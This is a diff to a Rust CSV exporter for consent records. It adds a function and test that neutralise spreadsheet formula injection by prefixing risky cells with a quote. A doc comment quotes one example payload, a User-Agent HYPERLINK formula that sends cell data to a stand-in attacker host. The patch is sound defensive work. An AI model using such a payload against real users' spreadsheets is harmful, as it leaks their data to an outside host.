@@ -5,7 +5,8 @@
 //! `,"hash":"…"}` appended, so `crumb verify` can hash the very bytes that
 //! were hashed when the record was written. CSV: one row per record, the
 //! same fields, list fields space-separated, quoted per RFC 4180 by the
-//! `csv` crate.
+//! `csv` crate; a text cell that a spreadsheet would run as a formula
+//! starts with `'` (see [`inert`]).
 
 use std::borrow::Cow;
 use std::io::Write;
@@ -283,7 +284,7 @@ impl Exporter {
                     &b.event_time,
                     &b.expires_at,
                     &b.policy_revision.to_string(),
-                    &b.policy_url,
+                    &inert(&b.policy_url),
                     &b.language,
                     &b.text_hash,
                     &b.method,
@@ -291,7 +292,7 @@ impl Exporter {
                     &list(&b.categories_denied),
                     &list(&b.services_granted),
                     &list(&b.services_denied),
-                    &b.user_agent,
+                    &inert(&b.user_agent),
                     &b.ip_network,
                     &b.prev_hash,
                     hash,
@@ -343,9 +344,34 @@ pub fn parse_range(from: Option<&str>, to: Option<&str>) -> Result<TimeRange, St
     Ok(range)
 }
 
+/// A CSV cell as a spreadsheet will not run it. A visitor's browser
+/// chooses its own user agent, so a request sent with `User-Agent:
+/// =HYPERLINK("https://evil.example/?"&A1)` would put a formula in the
+/// auditor's spreadsheet (CSV injection); a cell that starts with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which
+/// spreadsheets read as "text" (OWASP's advice). The NDJSON export, which
+/// `crumb verify` checks, keeps every byte as stored.
+fn inert(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn csv_cells_that_would_run_as_formulas_are_made_text() {
+        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"] {
+            assert_eq!(inert(formula), format!("'{formula}"));
+        }
+        for plain in ["Mozilla/5.0 (X11; Linux x86_64)", "", "curl/8 =x"] {
+            assert_eq!(inert(plain), plain);
+        }
+    }
 
     #[test]
     fn ranges_accept_dates_and_instants() {
